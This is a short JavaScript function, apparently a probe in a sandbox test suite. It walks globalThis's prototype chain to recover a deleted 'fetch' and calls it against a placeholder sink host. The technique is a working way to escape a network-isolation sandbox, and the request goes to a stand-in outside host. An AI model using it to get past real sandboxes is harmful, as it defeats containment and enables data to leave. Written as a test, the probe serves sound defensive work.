// Names deleted from the global may still stand on its prototypes, or behind its constructor.
export async function work() {
  for (let holder = globalThis; holder; holder = Object.getPrototypeOf(holder)) {
    attempt(() => Object.getOwnPropertyDescriptor(holder, 'fetch').value.call(globalThis, 'http://__SINK__/prototype', { mode: 'no-cors' }))
    attempt(() => holder.constructor.prototype.fetch.call(globalThis, 'http://__SINK__/prototype', { mode: 'no-cors' }))
  }
  return settled()
}
